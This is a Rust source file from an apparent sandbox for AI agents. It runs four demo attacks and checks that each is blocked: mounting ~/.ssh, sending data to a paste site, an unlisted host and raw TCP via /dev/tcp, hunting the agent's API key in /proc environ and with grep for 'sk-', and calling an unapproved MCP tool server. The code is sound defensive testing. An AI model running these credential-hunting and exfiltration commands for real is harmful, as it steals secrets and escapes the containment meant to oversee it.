//! The four attacks. Each gives what the agent saw as evidence.

use serde_json::{Value, json};

use super::stage::{Attack, KEY_HEADER, KEY_VARIABLE, MODEL, PASTE, Stage, TOOLS, UNLISTED};
use crate::{
    cli::{
        failure::{Failure, Kind},
        ops::{Machines, Plans, Wish},
    },
    model::event::Decision,
};

/// A mount of `~/.ssh` is refused before anything exists.
pub(super) fn stolen_mount(stage: &Stage) -> Result<Attack, Failure> {
    let source = stage.home.join(".ssh");
    let mounts =
        json!({ "mounts": [{ "source": source, "target": "/keys", "access": "read", "why": "curiosity" }] });
    let (denied, evidence) = match stage.host.propose(&stage.document(mounts), &Wish::default()) {
        Err(failure) if failure.kind() == Kind::Denied => {
            let rule = "floor.fs.ssh";
            (
                failure.object().message.contains(rule),
                format!("mount of ~/.ssh refused, exit code 4, rule {rule}"),
            )
        }
        Err(failure) => return Err(failure),
        Ok(_) => (false, "a mount of ~/.ssh was not refused".to_owned()),
    };
    let nothing_made = stage.host.list(false)?.is_empty();
    Ok(Attack {
        id: "mount",
        title: "take the host's credentials by a mount",
        blocked: denied && nothing_made,
        evidence,
        trace: |event| event.action == "fs.mount" && event.decision == Decision::Deny,
    })
}

/// Inside there is no credential to find.
pub(super) fn no_credentials_inside(stage: &Stage) -> Result<(bool, String), Failure> {
    let home = stage.home.display();
    let done = stage.inside(&format!(
        "for path in ~/.ssh ~/.aws/credentials '{home}/.ssh' '{home}/.aws/credentials' /root/.ssh /root/.aws; do \
         if sudo test -e \"$path\"; then echo \"$path\"; fi; done; echo looked"
    ))?;
    let nothing = done.stdout == "looked\n";
    Ok((
        nothing,
        if nothing { "inside no credential exists, for root either".to_owned() } else { done.stdout },
    ))
}

/// The model answers; a denied and an unlisted host do not, nor does raw TCP.
pub(super) fn forbidden_hosts(stage: &Stage) -> Result<Attack, Failure> {
    let paste = status(stage, &format!("https://{PASTE}/new"))?;
    let unlisted = status(stage, &format!("https://{UNLISTED}/"))?;
    let raw = stage.inside(&format!(
        "for place in {PASTE}/443 {UNLISTED}/443 {MODEL}/8443 192.0.2.1/443; do \
         (exec 3<>/dev/tcp/$place; printf 'SSH-2.0-x\\r\\n' >&3; timeout 5 head -c 1 <&3) 2>/dev/null; done"
    ))?;
    let silent = raw.stdout.is_empty();
    let arrived = stage.arrived(PASTE) || stage.arrived(UNLISTED);
    Ok(Attack {
        id: "network",
        title: "send data to a paste site, an unlisted host, and by raw TCP",
        blocked: (paste, unlisted) == (403, 403) && silent && !arrived,
        evidence: format!(
            "{PASTE} → {paste}, {UNLISTED} → {unlisted}, raw TCP → {}, arrived there: {}",
            if silent { "nothing" } else { "an answer" },
            if arrived { "something" } else { "nothing" }
        ),
        trace: |event| {
            event.decision == Decision::Deny && event.resource.contains(PASTE) && event.rule.is_some()
        },
    })
}

/// The variable holds a placeholder, and the call with it succeeds with the real key.
pub(super) fn stolen_key(stage: &Stage) -> Result<(Attack, Value), Failure> {
    let shown = stage.inside(&format!("printf %s \"${KEY_VARIABLE}\""))?.stdout;
    let real = String::from_utf8_lossy(stage.key.expose()).into_owned();
    let searched = stage.inside(
        "sudo cat /proc/*/environ /proc/*/cmdline /cofferdam.json /run/cofferdam/* 2>/dev/null; \
         sudo grep -rsh sk- /etc /home /run /tmp /var/lib/cofferdam 2>/dev/null; true",
    )?;
    let hidden = !shown.contains(&real) && !searched.stdout.contains(&real) && shown.starts_with("sk-demo-");
    let done = stage.inside(&format!(
        "curl -sS -m 30 -o /dev/null -w '%{{http_code}}' -H \"{KEY_HEADER}: ${KEY_VARIABLE}\" https://{MODEL}/v1/chat"
    ))?;
    let arrivals = stage.world.arrivals();
    let keys: Vec<&str> = arrivals
        .iter()
        .filter(|arrival| arrival.host == MODEL)
        .filter_map(|arrival| arrival.key.as_deref())
        .collect();
    let real_key_arrived = keys.contains(&real.as_str());
    let placeholder_arrived = keys.contains(&shown.as_str());
    let call =
        json!({ "status": done.stdout.parse::<u16>().unwrap_or(0), "real_key_arrived": real_key_arrived });
    let attack = Attack {
        id: "secret",
        title: "read the key that the agent works with",
        blocked: hidden && !placeholder_arrived,
        evidence: format!(
            "the variable holds {}…; the model was sent {}",
            shown.chars().take(12).collect::<String>(),
            if real_key_arrived { "the real key" } else { "no real key" }
        ),
        trace: |event| event.action == "secret.use" && event.decision == Decision::Allow,
    };
    Ok((attack, call))
}

/// A tool server that nobody approved. The MCP gateway, which will judge each call, is not there yet: until then such
/// a server is a host like any other.
pub(super) fn unapproved_tool(stage: &Stage) -> Result<Attack, Failure> {
    let done = stage.inside(&format!(
        "curl -sS -m 30 -o /dev/null -w '%{{http_code}}' -H 'content-type: application/json' \
         -d '{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\"}}' https://{TOOLS}/mcp"
    ))?;
    let arrived = stage.arrived(TOOLS);
    Ok(Attack {
        id: "tool",
        title: "call a tool server that nobody approved (over HTTP: the MCP gateway does not exist yet)",
        blocked: done.stdout == "403" && !arrived,
        evidence: format!(
            "{TOOLS} → {}, arrived there: {}",
            done.stdout,
            if arrived { "something" } else { "nothing" }
        ),
        trace: |event| event.decision == Decision::Deny && event.resource.contains(TOOLS),
    })
}

fn status(stage: &Stage, url: &str) -> Result<u16, Failure> {
    let done = stage.inside(&format!("curl -sS -m 30 -o /dev/null -w '%{{http_code}}' '{url}'"))?;
    // A command that could not even start would look like silence.
    if done.code == 127 {
        return Err(Failure::new(Kind::Failed, "demo", "there is no curl in the sandbox"));
    }
    Ok(done.stdout.parse().unwrap_or(0))
}
